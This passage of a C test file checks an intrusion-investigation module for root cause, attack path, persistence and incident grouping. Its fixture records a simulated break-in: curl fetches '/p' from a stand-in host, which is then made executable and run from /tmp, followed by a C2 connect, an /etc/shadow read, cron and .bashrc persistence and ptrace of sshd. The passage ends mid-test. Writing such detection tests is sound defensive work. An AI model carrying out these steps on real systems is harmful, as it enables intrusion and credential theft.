/*
 * test_investigate.c - root cause, intrusion path and impact scope
 * (investigate/investigate.h) over a real SQLite store written through the
 * store's own writer, with a made-up but complete intrusion:
 *
 *   systemd(1) -> nginx (accepted 203.0.113.5:41000) -> sh -> curl
 *     (connected 198.51.100.7:80, created /tmp/x/p), chmod 755 /tmp/x/p,
 *     /tmp/x/p (cron file, .bashrc appended, C2 connect, ptrace of sshd)
 *       -> /tmp/x/d (deletes itself)
 *   systemd -> bash (benign: rewrites /tmp/x/p after it ran)
 *   systemd -> cron -> sh -> /tmp/x/p again, later (ran what the attack
 *     left: in the scope)
 *   systemd -> cron -> sh -> /tmp/x/p2, which the payload planted: the
 *     web shell's story, cron as the way it came
 *   sshd -> sshd -> bash -> sudo -> apt-get -> dpkg -> sh -> evil: the
 *     ssh login's story, the package install as the way it went on
 *
 * Also the entry kinds (sshd, cron, unknown), the persistence table, a
 * parent cycle in bad data, and alerts grouped into incidents.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <cmocka.h>

#include "event/event.h"
#include "investigate/investigate.h"
#include "store/store.h"

#define SEC 1000000000ULL

enum {
	E_INIT = 0x101, E_NGINX, E_SH, E_CURL, E_CHMOD, E_PAYLOAD, E_DROP, E_BENIGN, E_SSHD,
	E_CRON, E_CRONSH, E_RERUN, E_SSHSESS, E_SSHSH, E_LOOP_A, E_LOOP_B, E_CRONSH2, E_RERUN2,
	E_SESS2, E_BASH2, E_SUDO, E_APT, E_DPKG, E_POSTINST, E_EVIL,
};

static char dir[64];
static char dbpath[128];
static struct hn_store *store;
static uint64_t t0;

static struct hn_event *mk(uint16_t type, uint64_t entity, uint32_t pid, uint64_t t)
{
	struct hn_event *ev = hn_event_new(4096);

	assert_non_null(ev);
	ev->type = type;
	ev->time = t;
	ev->proc.entity = entity;
	ev->proc.pid = pid;
	ev->proc.tid = pid;
	return ev;
}

static void submit(struct hn_event *ev)
{
	assert_int_equal(hn_store_submit(store, ev), 0);
}

static void exec_ev(uint64_t entity, uint64_t parent, uint32_t pid, uint64_t t, const char *exe,
		    const char *argv0, const char *arg1)
{
	struct hn_event *ev = mk(HN_EV_PROCESS_START, entity, pid, t);
	char args[512];
	size_t n = (size_t)snprintf(args, sizeof(args), "%s", argv0) + 1;

	if (arg1)
		n += (size_t)snprintf(args + n, sizeof(args) - n, "%s", arg1) + 1;
	ev->proc.parent_entity = parent;
	ev->proc.start_time = t;
	ev->path = hn_event_puts(ev, exe);
	ev->filename = hn_event_puts(ev, exe);
	ev->args = hn_event_put(ev, args, n);
	ev->args_len = n;
	ev->argc = arg1 ? 2 : 1;
	ev->cwd = hn_event_puts(ev, "/");
	submit(ev);
}

static void file_ev(uint16_t type, uint64_t entity, uint32_t pid, uint64_t t, const char *path,
		    uint32_t flags, uint32_t mode)
{
	struct hn_event *ev = mk(type, entity, pid, t);

	ev->path = hn_event_puts(ev, path);
	ev->flags = flags;
	ev->mode = mode;
	submit(ev);
}

static void net_ev(uint16_t type, uint64_t entity, uint32_t pid, uint64_t t, const char *ip,
		   uint16_t port)
{
	struct hn_event *ev = mk(type, entity, pid, t);

	ev->transport = 6;
	ev->dst.family = AF_INET;
	ev->dst.port = port;
	assert_int_equal(inet_pton(AF_INET, ip, ev->dst.addr), 1);
	submit(ev);
}

static void alert(int n, uint64_t entity, uint64_t t, const char *title, const char *level)
{
	char key[32];
	struct hn_alert a = { .group_key = key, .time = t, .last_time = t, .rule_title = title,
			      .rule_level = level, .entity = entity, .pid = (uint32_t)n };

	snprintf(key, sizeof(key), "k%d", n);
	assert_int_equal(hn_store_submit_alert(store, &a), 0);
}

static int setup(void **state)
{
	struct hn_store_opts o = { 0 };
	struct hn_event *ev;
	struct timespec ts;

	(void)state;
	snprintf(dir, sizeof(dir), "/tmp/hn-inv-XXXXXX");
	assert_non_null(mkdtemp(dir));
	snprintf(dbpath, sizeof(dbpath), "%s/s.db", dir);
	o.path = dbpath;
	assert_int_equal(hn_store_open(&o, &store), 0);
	assert_int_equal(hn_store_start(store), 0);
	clock_gettime(CLOCK_REALTIME, &ts);
	t0 = ((uint64_t)ts.tv_sec - 3600) * SEC;

	exec_ev(E_INIT, 0, 1, t0, "/usr/lib/systemd/systemd", "/sbin/init", NULL);
	exec_ev(E_NGINX, E_INIT, 100, t0 + 1 * SEC, "/usr/sbin/nginx", "nginx", NULL);
	exec_ev(E_SSHD, E_INIT, 400, t0 + 1 * SEC, "/usr/sbin/sshd", "sshd", NULL);
	exec_ev(E_BENIGN, E_INIT, 300, t0 + 2 * SEC, "/usr/bin/bash", "bash", NULL);
	exec_ev(E_CRON, E_INIT, 500, t0 + 2 * SEC, "/usr/sbin/cron", "cron", NULL);
	/* an accept long before the shell, then the one that led to it */
	net_ev(HN_EV_NET_ACCEPT, E_NGINX, 100, t0 + 5 * SEC, "192.0.2.1", 50000);
	net_ev(HN_EV_NET_ACCEPT, E_NGINX, 100, t0 + 10 * SEC, "203.0.113.5", 41000);
	exec_ev(E_SH, E_NGINX, 200, t0 + 11 * SEC, "/usr/bin/dash", "sh", "-c");
	/* and one after: it did not lead to the shell */
	net_ev(HN_EV_NET_ACCEPT, E_NGINX, 100, t0 + 25 * SEC, "192.0.2.77", 1234);
	exec_ev(E_CURL, E_SH, 201, t0 + 12 * SEC, "/usr/bin/curl", "curl", "http://198.51.100.7/p");
	net_ev(HN_EV_NET_CONNECT, E_CURL, 201, t0 + 12 * SEC + 100, "198.51.100.7", 80);
	file_ev(HN_EV_FILE_CREATE, E_CURL, 201, t0 + 12 * SEC + 200, "/tmp/x/p", HN_EVF_CREATED,
		0644);
	/* curl also tried a dozen mirrors: drawn as one node */
	for (int k = 0; k < 12; k++) {
		char ip[32];
		snprintf(ip, sizeof(ip), "10.9.0.%d", k + 1);
		net_ev(HN_EV_NET_CONNECT, E_CURL, 201, t0 + 12 * SEC + 300 + (uint64_t)k, ip, 80);
	}
	exec_ev(E_CHMOD, E_SH, 202, t0 + 13 * SEC, "/usr/bin/chmod", "chmod", "/tmp/x/p");
	file_ev(HN_EV_FILE_CHMOD, E_CHMOD, 202, t0 + 13 * SEC + 100, "/tmp/x/p", 0, 0755);
	exec_ev(E_PAYLOAD, E_SH, 203, t0 + 14 * SEC, "/tmp/x/p", "/tmp/x/p", NULL);
	file_ev(HN_EV_FILE_CREATE, E_PAYLOAD, 203, t0 + 15 * SEC, "/etc/cron.d/evil",
		HN_EVF_CREATED, 0644);
	file_ev(HN_EV_FILE_OPEN_WRITE, E_PAYLOAD, 203, t0 + 15 * SEC + 100, "/home/alice/.bashrc",
		HN_EVF_WRITTEN, 0);
	/* opened for writing, never written: not a modification */
	file_ev(HN_EV_FILE_OPEN_WRITE, E_PAYLOAD, 203, t0 + 15 * SEC + 150, "/etc/passwd", 0, 0);
	net_ev(HN_EV_NET_CONNECT, E_PAYLOAD, 203, t0 + 15 * SEC + 200, "192.0.2.9", 4444);
	file_ev(HN_EV_FILE_READ, E_PAYLOAD, 203, t0 + 15 * SEC + 210, "/etc/shadow", 0, 0);
	{
		/* a hard link to a file that is not the attack's: the new name
		 * is what it created (path2), never the file linked to */
		struct hn_event *ev = mk(HN_EV_FILE_LINK, E_PAYLOAD, 203, t0 + 15 * SEC + 215);
		ev->path = hn_event_puts(ev, "/usr/bin/legit");
		ev->path2 = hn_event_puts(ev, "/tmp/x/legit-link");
		submit(ev);
	}
	/* two IPv6 ends differing only in the port */
	for (int k = 0; k < 2; k++) {
		ev = mk(HN_EV_NET_CONNECT, E_PAYLOAD, 203, t0 + 15 * SEC + 212 + (uint64_t)k);
		ev->transport = 6;
		ev->dst.family = AF_INET6;
		ev->dst.port = k ? 8443 : 443;
		assert_int_equal(inet_pton(AF_INET6, "2001:db8:1111:2222:3333:4444:5555:6666",
					   ev->dst.addr), 1);
		submit(ev);
	}
	ev = mk(HN_EV_MODULE_LOAD, E_PAYLOAD, 203, t0 + 15 * SEC + 215);
	ev->path = hn_event_puts(ev, "/tmp/x/rk.ko");
	ev->name = hn_event_puts(ev, "rk");
	submit(ev);
	/* 300 directories (mkdir's mode 0777 is not a program made runnable) */
	for (int i = 0; i < 300; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/tmp/x/dirs/d%03d", i);
		file_ev(HN_EV_DIR_CREATE, E_PAYLOAD, 203, t0 + 15 * SEC + 100 + (uint64_t)i, p, 0,
			0777);
	}
	/* a second program, planted for cron to run later */
	file_ev(HN_EV_FILE_CREATE, E_PAYLOAD, 203, t0 + 15 * SEC + 220, "/tmp/x/p2",
		HN_EVF_CREATED, 0755);
	/* a fan-out: drawn as one node */
	for (int i = 0; i < 20; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/tmp/x/many/f%02d", i);
		file_ev(HN_EV_FILE_CREATE, E_PAYLOAD, 203, t0 + 15 * SEC + 250 + (uint64_t)i, p,
			HN_EVF_CREATED, 0644);
	}
	ev = mk(HN_EV_PTRACE, E_PAYLOAD, 203, t0 + 15 * SEC + 300);
	ev->target_entity = E_SSHD;
	ev->target_pid = 400;
	submit(ev);
	exec_ev(E_DROP, E_PAYLOAD, 204, t0 + 16 * SEC, "/tmp/x/d", "/tmp/x/d", NULL);
	file_ev(HN_EV_FILE_DELETE, E_DROP, 204, t0 + 16 * SEC + 100, "/tmp/x/d", 0, 0);
	/* after the payload ran: must not be its delivery */
	file_ev(HN_EV_FILE_OPEN_WRITE, E_BENIGN, 300, t0 + 20 * SEC, "/tmp/x/p",
		HN_EVF_WRITTEN | HN_EVF_TRUNC, 0);
	file_ev(HN_EV_FILE_CREATE, E_BENIGN, 300, t0 + 20 * SEC + 100, "/tmp/x/other",
		HN_EVF_CREATED, 0644);
	/* cron runs what was left behind */
	exec_ev(E_CRONSH, E_CRON, 501, t0 + 30 * SEC, "/usr/bin/dash", "sh", "-c");
	exec_ev(E_RERUN, E_CRONSH, 502, t0 + 30 * SEC + 100, "/tmp/x/p", "/tmp/x/p", NULL);
	exec_ev(E_CRONSH2, E_CRON, 503, t0 + 35 * SEC, "/usr/bin/dash", "sh", "-c");
	exec_ev(E_RERUN2, E_CRONSH2, 504, t0 + 35 * SEC + 100, "/tmp/x/p2", "/tmp/x/p2", NULL);
	/* an ssh session: the listener accepted, its child runs the shell */
	net_ev(HN_EV_NET_ACCEPT, E_SSHD, 400, t0 + 40 * SEC, "198.51.100.20", 52222);
	exec_ev(E_SSHSESS, E_SSHD, 401, t0 + 40 * SEC + 100, "/usr/sbin/sshd", "sshd: alice", NULL);
	exec_ev(E_SSHSH, E_SSHSESS, 402, t0 + 41 * SEC, "/usr/bin/bash", "-bash", NULL);
	/* an ssh login that installs a package whose script runs a program:
	 * the ssh login is the way in, the package install how it went on */
	net_ev(HN_EV_NET_ACCEPT, E_SSHD, 400, t0 + 60 * SEC, "198.51.100.30", 5555);
	exec_ev(E_SESS2, E_SSHD, 410, t0 + 60 * SEC + 100, "/usr/sbin/sshd", "sshd: bob", NULL);
	exec_ev(E_BASH2, E_SESS2, 411, t0 + 61 * SEC, "/usr/bin/bash", "-bash", NULL);
	exec_ev(E_SUDO, E_BASH2, 412, t0 + 62 * SEC, "/usr/bin/sudo", "sudo", "apt-get");
	exec_ev(E_APT, E_SUDO, 413, t0 + 62 * SEC + 100, "/usr/bin/apt-get", "apt-get", "install");
	exec_ev(E_DPKG, E_APT, 414, t0 + 63 * SEC, "/usr/bin/dpkg", "dpkg", "-i");
	exec_ev(E_POSTINST, E_DPKG, 415, t0 + 63 * SEC + 100, "/usr/bin/dash", "sh", "-c");
	exec_ev(E_EVIL, E_POSTINST, 416, t0 + 63 * SEC + 200, "/usr/bin/evil", "evil", NULL);
	/* bad data: two processes each the other's parent */
	exec_ev(E_LOOP_A, E_LOOP_B, 600, t0 + 50 * SEC, "/usr/bin/a", "a", NULL);
	exec_ev(E_LOOP_B, E_LOOP_A, 601, t0 + 50 * SEC, "/usr/bin/b", "b", NULL);
	/* alerts: three in the web shell's tree, one in the ssh session, one
	 * on a process the store does not know */
	alert(1, E_CURL, t0 + 12 * SEC, "Download to /tmp", "low");
	alert(2, E_PAYLOAD, t0 + 15 * SEC, "Cron File Written", "high");
	alert(3, E_DROP, t0 + 16 * SEC, "Program Deleted Its Own Executable", "medium");
	alert(4, E_SSHSH, t0 + 41 * SEC, "Interactive Shell", "medium");
	alert(5, 0x999999, t0 + 45 * SEC, "Orphan", "critical");
	alert(6, E_RERUN2, t0 + 35 * SEC + 200, "Program Run From /tmp by cron", "medium");
	assert_int_equal(hn_store_flush(store), 0);
	return 0;
}

static int teardown(void **state)
{
	char p[200];
	const char *sfx[] = { "", "-wal", "-shm" };

	(void)state;
	hn_store_close(store);
	for (size_t i = 0; i < 3; i++) {
		snprintf(p, sizeof(p), "%s%s", dbpath, sfx[i]);
		unlink(p);
	}
	rmdir(dir);
	return 0;
}

static bool has_proc(const struct hn_story *st, uint64_t e)
{
	for (size_t i = 0; i < st->n_procs; i++)
		if (st->procs[i].entity == e)
			return true;
	return false;
}

static const struct hn_inv_file *file_of(const struct hn_story *st, enum hn_inv_action a,
					 const char *path)
{
	for (size_t i = 0; i < st->n_files; i++)
		if (st->files[i].action == a && !strcmp(st->files[i].path, path))
			return &st->files[i];
	return NULL;
}

static const struct hn_inv_persist *persist_of(const struct hn_story *st, const char *path)
{
	for (size_t i = 0; i < st->n_persist; i++)
		if (st->persist[i].path && !strcmp(st->persist[i].path, path))
			return &st->persist[i];
	return NULL;
}

static bool has_remote(const struct hn_story *st, const char *ip, uint16_t port, bool out)
{
	uint8_t a[4];

	assert_int_equal(inet_pton(AF_INET, ip, a), 1);
	for (size_t i = 0; i < st->n_remotes; i++)
		if (st->remotes[i].out == out && st->remotes[i].addr.port == port &&
		    !memcmp(st->remotes[i].addr.addr, a, 4))
			return true;
	return false;
}

static const struct hn_inv_step *step_of(const struct hn_story *st, enum hn_inv_action a,
					 const char *object)
{
	for (size_t i = 0; i < st->n_steps; i++)
		if (st->steps[i].action == a && st->steps[i].object &&
		    !strcmp(st->steps[i].object, object))
			return &st->steps[i];
	return NULL;
}

static void test_root_cause_of_a_web_shell(void **state)
{
	struct hn_story *st = NULL;
	const struct hn_inv_step *acc, *con, *cre, *chm, *exe;
	char ip[64];

	(void)state;
	assert_int_equal(hn_investigate(store, E_PAYLOAD, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_SERVICE);
	assert_int_equal(st->entry_proc.entity, E_NGINX);
	assert_string_equal(st->entry_proc.exe, "/usr/sbin/nginx");
	/* the accept just before the shell, not the earlier one */
	assert_true(st->has_remote);
	assert_string_equal(hn_addr_str(&st->remote, ip, sizeof(ip)), "203.0.113.5");
	assert_int_equal(st->remote.port, 41000);
	assert_int_equal(st->root.entity, E_SH);
	/* delivered by curl, downloaded from 198.51.100.7:80; the benign
	 * rewrite came after the run */
	assert_int_equal(st->n_deliveries, 1);
	assert_string_equal(st->deliveries[0].path, "/tmp/x/p");
	assert_int_equal(st->deliveries[0].writer, E_CURL);
	assert_int_equal(st->deliveries[0].runner, E_PAYLOAD);
	assert_string_equal(st->deliveries[0].writer_exe, "/usr/bin/curl");
	assert_true(st->deliveries[0].has_from);
	assert_int_equal(st->deliveries[0].from.port, 80);
	/* the path, in time order */
	acc = step_of(st, HN_INV_ACCEPTED, "203.0.113.5:41000");
	con = step_of(st, HN_INV_CONNECTED, "198.51.100.7:80");
	cre = step_of(st, HN_INV_CREATED, "/tmp/x/p");
	chm = step_of(st, HN_INV_CHMOD, "/tmp/x/p");
	exe = step_of(st, HN_INV_EXECUTED, "/tmp/x/p");
	assert_non_null(acc);
	assert_non_null(con);
	assert_non_null(cre);
	assert_non_null(chm);
	assert_non_null(exe);
	assert_true(acc < con && con < cre && cre < chm && chm < exe);
	for (size_t i = 1; i < st->n_steps; i++)
		assert_true(st->steps[i].time >= st->steps[i - 1].time);
	assert_null(step_of(st, HN_INV_ACCEPTED, "192.0.2.1:50000"));
	assert_null(step_of(st, HN_INV_ACCEPTED, "192.0.2.77:1234"));
	hn_story_free(st);
}

static void test_scope_of_a_web_shell(void **state)
{
	struct hn_story *st = NULL;
	const struct hn_inv_persist *p;

	(void)state;
	assert_int_equal(hn_investigate(store, E_PAYLOAD, 0, NULL, &st), 0);
	/* the tree from the root, and the later run of what it left */
	assert_int_equal(st->procs[0].entity, E_SH);
	assert_true(has_proc(st, E_CURL));
	assert_true(has_proc(st, E_CHMOD));
	assert_true(has_proc(st, E_PAYLOAD));
	assert_true(has_proc(st, E_DROP));
	assert_true(has_proc(st, E_RERUN));
	assert_true(has_proc(st, E_RERUN2));
	assert_false(has_proc(st, E_BENIGN));
	assert_false(st->truncated);   /* the 300 directories did not use up the bound */
	assert_false(has_proc(st, E_NGINX));
	assert_false(has_proc(st, E_INIT));
	assert_false(has_proc(st, E_CRONSH));
	assert_int_equal(st->n_procs, 7);
	/* files */
	assert_non_null(file_of(st, HN_INV_CREATED, "/tmp/x/p"));
	assert_non_null(file_of(st, HN_INV_CHMOD, "/tmp/x/p"));
	assert_non_null(file_of(st, HN_INV_DELETED, "/tmp/x/d"));
	assert_non_null(file_of(st, HN_INV_MODIFIED, "/home/alice/.bashrc"));
	assert_null(file_of(st, HN_INV_MODIFIED, "/etc/passwd"));
	assert_null(file_of(st, HN_INV_CREATED, "/tmp/x/other"));
	assert_non_null(file_of(st, HN_INV_CREATED, "/tmp/x/legit-link"));
	assert_null(file_of(st, HN_INV_CREATED, "/usr/bin/legit"));
	/* a sensitive file read: in the scope, not a persistence point */
	assert_non_null(file_of(st, HN_INV_READ, "/etc/shadow"));
	assert_null(persist_of(st, "/etc/shadow"));
	/* persistence */
	p = persist_of(st, "/etc/cron.d/evil");
	assert_non_null(p);
	assert_string_equal(p->kind, "cron");
	assert_int_equal(p->action, HN_INV_CREATED);
	p = persist_of(st, "/home/alice/.bashrc");
	assert_non_null(p);
	assert_string_equal(p->kind, "shell_rc");
	assert_int_equal(p->action, HN_INV_MODIFIED);
	assert_null(persist_of(st, "/etc/passwd"));
	p = persist_of(st, "/tmp/x/rk.ko");
	assert_non_null(p);
	assert_string_equal(p->kind, "kernel_module");
	assert_int_equal(st->n_persist, 3);
	/* network and injection */
	assert_true(has_remote(st, "198.51.100.7", 80, true));
	assert_true(has_remote(st, "192.0.2.9", 4444, true));
	assert_false(has_remote(st, "203.0.113.5", 41000, false));
	assert_int_equal(st->n_injected, 1);
	assert_int_equal(st->injected[0].target, E_SSHD);
	assert_int_equal(st->injected[0].by, E_PAYLOAD);
	assert_string_equal(st->injected[0].how, "ptrace");
	assert_string_equal(st->injected[0].exe, "/usr/sbin/sshd");
	assert_false(st->truncated);
	hn_story_free(st);
}

static void test_other_entries(void **state)
{
	struct hn_story *st = NULL;
	char ip[64];

	(void)state;
	/* cron ran the left-behind file: a scheduled job; its delivery is
	 * the newest write before that run (the benign rewrite) */
	assert_int_equal(hn_investigate(store, E_RERUN, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_SCHEDULED);
	assert_int_equal(st->entry_proc.entity, E_CRON);
	assert_int_equal(st->root.entity, E_CRONSH);
	assert_int_equal(st->n_deliveries, 1);
	assert_int_equal(st->deliveries[0].writer, E_BENIGN);
	hn_story_free(st);
	/* cron ran a file the web shell planted: the web shell's way in,
	 * with cron kept as how it came */
	assert_int_equal(hn_investigate(store, E_RERUN2, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_SERVICE);
	assert_int_equal(st->entry_proc.entity, E_NGINX);
	assert_int_equal(st->root.entity, E_SH);
	assert_int_equal(st->via, HN_INV_ENTRY_SCHEDULED);
	assert_int_equal(st->via_proc.entity, E_CRON);
	assert_true(st->n_deliveries >= 1);
	assert_int_equal(st->deliveries[0].writer, E_PAYLOAD);
	assert_string_equal(st->deliveries[0].path, "/tmp/x/p2");
	/* the processes that ran it are in the scope with the web shell's */
	assert_true(has_proc(st, E_RERUN2));
	assert_true(has_proc(st, E_CRONSH2));
	assert_true(has_proc(st, E_PAYLOAD));
	assert_non_null(step_of(st, HN_INV_ACCEPTED, "203.0.113.5:41000"));
	assert_non_null(step_of(st, HN_INV_CREATED, "/tmp/x/p2"));
	assert_non_null(step_of(st, HN_INV_EXECUTED, "/tmp/x/p2"));
	for (size_t i = 1; i < st->n_steps; i++)
		assert_true(st->steps[i].time >= st->steps[i - 1].time);
	hn_story_free(st);
	/* asked about through its alert: the alert names cron's run, and
	 * cron's start is one step */
	assert_int_equal(hn_investigate(store, E_RERUN2, t0 + 35 * SEC + 200, "Run From /tmp", &st),
			 0);
	assert_int_equal(st->steps[st->n_steps - 1].action, HN_INV_ALERT);
	assert_int_equal(st->steps[st->n_steps - 1].pid, 504);
	assert_string_equal(st->steps[st->n_steps - 1].exe, "/tmp/x/p2");
	{
		size_t cron = 0;
		for (size_t i = 0; i < st->n_steps; i++)
			cron += st->steps[i].entity == E_CRON;
		assert_int_equal(cron, 1);
	}
	hn_story_free(st);
	/* the same through the cheap look-up incidents use */
	{
		struct hn_inv_proc root;
		enum hn_inv_entry en;
		assert_int_equal(hn_investigate_root(store, E_RERUN2, 0, &root, &en), 0);
		assert_int_equal(root.entity, E_SH);
		assert_int_equal(en, HN_INV_ENTRY_SERVICE);
		hn_inv_proc_release(&root);
	}
	/* an ssh session: the listener's accept names the address */
	assert_int_equal(hn_investigate(store, E_SSHSH, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_SSH);
	assert_true(st->has_remote);
	assert_string_equal(hn_addr_str(&st->remote, ip, sizeof(ip)), "198.51.100.20");
	assert_int_equal(st->root.entity, E_SSHSH);
	hn_story_free(st);
	/* a package installed in an ssh session: the login is the way in */
	assert_int_equal(hn_investigate(store, E_EVIL, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_SSH);
	assert_int_equal(st->entry_proc.entity, E_SESS2);
	assert_string_equal(hn_addr_str(&st->remote, ip, sizeof(ip)), "198.51.100.30");
	assert_int_equal(st->root.entity, E_BASH2);
	assert_int_equal(st->via, HN_INV_ENTRY_PACKAGE);
	assert_int_equal(st->via_proc.entity, E_DPKG);
	hn_story_free(st);
	/* bad data: a parent cycle ends the walk, with no way in found */
	assert_int_equal(hn_investigate(store, E_LOOP_A, 0, NULL, &st), 0);
	assert_int_equal(st->entry, HN_INV_ENTRY_UNKNOWN);
	hn_story_free(st);
	/* unknown process */
	assert_int_equal(hn_investigate(store, 0x999999, 0, NULL, &st), -ENOENT);
	assert_null(st);
}

static void test_path_subject_and_alert_step(void **state)
{
	struct hn_story *st = NULL;
	uint64_t e = 0, at = 0;

	(void)state;
	/* the newest process that ran it */
	assert_int_equal(hn_investigate_path_subject(store, "/tmp/x/p", &e, &at), 0);
	assert_int_equal(e, E_RERUN);
	/* else the newest that wrote it */
	assert_int_equal(hn_investigate_path_subject(store, "/etc/cron.d/evil", &e, &at), 0);
	assert_int_equal(e, E_PAYLOAD);
	assert_int_equal(hn_investigate_path_subject(store, "/nowhere", &e, &at), -ENOENT);
	/* an alert is the path's last step, at its time */
	assert_int_equal(hn_investigate(store, E_PAYLOAD, t0 + 15 * SEC, "Cron File Written", &st),
			 0);
	assert_true(st->n_steps > 0);
	assert_int_equal(st->steps[st->n_steps - 1].action, HN_INV_ALERT);
	assert_string_equal(st->steps[st->n_steps - 1].object, "Cron File Written");
	hn_story_free(st);
}

static void test_incidents_group_alerts_by_root(void **state)
{
	struct hn_incident *v = NULL;
	size_t n = 0;
	char want[32];

	(void)state;
	assert_int_equal(hn_incidents(store, &v, &n), 0);
	assert_int_equal(n, 3);
	/* newest last match last: the web shell (35 s), ssh (41 s), orphan */
	snprintf(want, sizeof(want), "inc-%016llx", (unsigned long long)E_SH);
	assert_string_equal(v[0].id, want);
	assert_int_equal(v[0].root, E_SH);
	assert_int_equal(v[0].entry, HN_INV_ENTRY_SERVICE);
	assert_string_equal(v[0].root_exe, "/usr/bin/dash");
	assert_int_equal(v[0].n_alerts, 4);   /* cron's later run of the planted file too */
	assert_string_equal(v[0].severity, "high");
	assert_string_equal(v[0].title, "Cron File Written, and 3 more alerts");
	assert_int_equal(v[0].first, t0 + 12 * SEC);
	assert_int_equal(v[0].last, t0 + 35 * SEC + 200);
	assert_int_equal(v[0].matches, 4);
	assert_int_equal(v[1].root, E_SSHSH);
	assert_int_equal(v[1].entry, HN_INV_ENTRY_SSH);
	assert_int_equal(v[1].n_alerts, 1);
	assert_string_equal(v[1].title, "Interactive Shell");
	assert_int_equal(v[2].root, 0);
	assert_string_equal(v[2].severity, "critical");
	assert_int_equal(strncmp(v[2].id, "inc-a", 5), 0);
	hn_incidents_free(v, n);
}

static void test_graph(void **state)
{
	struct hn_story *st = NULL;
	struct hn_strbuf b;
	char *svg = NULL;
	size_t n = 0;

	(void)state;
	assert_int_equal(hn_investigate(store, E_PAYLOAD, 0, NULL, &st), 0);
	hn_strbuf_init(&b);
	assert_int_equal(hn_story_dot(st, &b), 0);
	/* the entry, the root, the fan-out as one node with its count, the
	 * persistence point filled, the path in red */
	assert_non_null(strstr(b.buf, "label=\"entry point\\nnginx\\npid 100\""));
	assert_non_null(strstr(b.buf, "label=\"malicious root\\ndash\\npid 200\""));
	assert_non_null(strstr(b.buf, "label=\"20 files\""));
	assert_non_null(strstr(b.buf, "[label=\"created ×20\"]"));
	assert_null(strstr(b.buf, "label=\"f07\""));
	{
		const char *l = strstr(b.buf, "label=\"evil\"");
		const char *e = l ? strchr(l, '\n') : NULL;
		assert_non_null(e);
		assert_non_null(memmem(l, (size_t)(e - l), "fillcolor=\"#f5b7b1\"", 19));
		assert_non_null(memmem(l, (size_t)(e - l), "tooltip=\"/etc/cron.d/evil\"", 26));
	}
	assert_non_null(strstr(b.buf, "label=\"203.0.113.5:41000\""));
	assert_non_null(strstr(b.buf, "color=\"#c0392b\""));
	assert_non_null(strstr(b.buf, "label=\"ptrace\""));
	/* Graphviz reads it and lays it out */
	assert_int_equal(hn_dot_svg(b.buf, &svg, &n), 0);
	assert_true(n > 1000);
	assert_non_null(strstr(svg, "<svg"));
	assert_non_null(strstr(svg, "20 files"));
	/* every node as written: an address is one node, not split at its dots */
	assert_non_null(strstr(svg, ">203.0.113.5:41000</text>"));
	free(svg);
	/* and says so when it cannot read what it is given */
	assert_int_equal(hn_dot_svg("digraph {", &svg, &n), -EINVAL);
	assert_null(svg);
	hn_strbuf_release(&b);
	hn_story_free(st);
}

static const struct hn_gnode *gnode(const struct hn_graph *g, enum hn_gnode_kind k,
				    uint64_t entity, const char *detail)
{
	for (size_t i = 0; i < g->n_nodes; i++)
		if (g->nodes[i].kind == k &&
		    (k == HN_GNODE_PROCESS ? g->nodes[i].entity == entity :
		     g->nodes[i].detail && !strcmp(g->nodes[i].detail, detail)))
			return &g->nodes[i];
	return NULL;
}

static void test_graph_roles(void **state)
{
	struct hn_story *st = NULL;
	struct hn_graph *g = NULL;
	const struct hn_gnode *x;
	size_t group = 0, curl = 0, sh = 0, user = 0, scan = 0;

	(void)state;
	assert_int_equal(hn_investigate(store, E_PAYLOAD, t0 + 15 * SEC, "Cron File Written", &st),
			 0);
	assert_int_equal(hn_story_graph(st, &g), 0);
	x = gnode(g, HN_GNODE_PROCESS, E_NGINX, NULL);
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_ENTRY);
	assert_false(x->roles & HN_GROLE_IMPACTED);
	x = gnode(g, HN_GNODE_PROCESS, E_SH, NULL);
	assert_non_null(x);
	assert_true((x->roles & (HN_GROLE_ROOT | HN_GROLE_IMPACTED | HN_GROLE_PATH)) ==
		    (HN_GROLE_ROOT | HN_GROLE_IMPACTED | HN_GROLE_PATH));
	x = gnode(g, HN_GNODE_PROCESS, E_PAYLOAD, NULL);
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_ALERT);
	assert_true(x->roles & HN_GROLE_PATH);
	x = gnode(g, HN_GNODE_PROCESS, E_SSHD, NULL);
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_INJECTED);
	assert_null(gnode(g, HN_GNODE_PROCESS, E_BENIGN, NULL));
	x = gnode(g, HN_GNODE_FILE, 0, "/tmp/x/rk.ko");
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_PERSIST);
	x = gnode(g, HN_GNODE_FILE, 0, "/etc/cron.d/evil");
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_PERSIST);
	x = gnode(g, HN_GNODE_FILE, 0, "/tmp/x/p");
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_PATH);
	x = gnode(g, HN_GNODE_REMOTE, 0, "203.0.113.5:41000");
	assert_non_null(x);
	assert_true(x->roles & HN_GROLE_ENTRY);
	for (size_t i = 0; i < g->n_nodes; i++)
		if (g->nodes[i].kind == HN_GNODE_REMOTE && g->nodes[i].label &&
		    strstr(g->nodes[i].label, "addresses"))
			scan++, assert_string_equal(g->nodes[i].label, "12 addresses");
	assert_int_equal(scan, 1);   /* curl's download stands alone, on the path */
	assert_non_null(gnode(g, HN_GNODE_REMOTE, 0, "198.51.100.7:80"));
	assert_non_null(gnode(g, HN_GNODE_REMOTE, 0, "[2001:db8:1111:2222:3333:4444:5555:6666]:443"));
	assert_non_null(gnode(g, HN_GNODE_REMOTE, 0, "[2001:db8:1111:2222:3333:4444:5555:6666]:8443"));
	/* the fan-out: one node of 20, one edge counted 20 times; the same
	 * edge is never there twice */
	for (size_t i = 0; i < g->n_nodes; i++)
		if (g->nodes[i].kind == HN_GNODE_FILES) {
			group++;
			assert_true(g->nodes[i].count == 20 || g->nodes[i].count == 300);
